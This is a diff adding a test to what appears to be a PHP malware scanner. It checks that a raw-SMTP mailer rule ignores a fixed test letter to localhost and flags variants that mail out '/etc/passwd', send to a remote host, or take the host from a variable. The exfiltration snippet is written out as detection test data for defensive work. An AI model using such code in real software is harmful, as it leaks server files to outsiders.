@@ -1185,3 +1185,24 @@ def test_a_script_that_deletes_itself_and_loops_for_ever_is_a_resident_shell() -
         b"while (true) { tick(); }\n",
     ):
         assert "php.self-deleting-resident" not in rule_ids(analyze_bytes(kept))
+
+
+def test_a_fixed_letter_to_the_local_mta_is_a_check_but_a_server_file_in_it_is_not() -> None:
+    """mailer.raw-smtp-dialogue leaves out a fixed test letter to localhost (the clock the only
+    call in it); what a call answers, written into the letter, is the server's data sent
+    away, and a host or line in a variable is the caller's choice."""
+    head = b"<?php\n$f = fsockopen('localhost', 25);\n"
+    tail = (
+        b'fwrite($f, "HELO localhost\\r\\n");\n'
+        b'fwrite($f, "MAIL FROM: <a@example.invalid>\\r\\n");\n'
+        b'fwrite($f, "RCPT TO: <b@example.invalid>\\r\\n");\n'
+        b'fwrite($f, "DATA\\r\\n");\n'
+    )
+    check = head + tail + b'fwrite($f, "Sent " . date("r") . "\\r\\n.\\r\\nQUIT\\r\\n");\n'
+    assert "mailer.raw-smtp-dialogue" not in rule_ids(analyze_bytes(check))
+    leak = head + tail + b"fwrite($f, file_get_contents('/etc/passwd') . \"\\r\\n.\\r\\n\");\n"
+    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(leak))
+    away = check.replace(b"'localhost'", b"'mx.example.invalid'")
+    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(away))
+    held = check.replace(b"fsockopen('localhost'", b"fsockopen($host")
+    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(held))
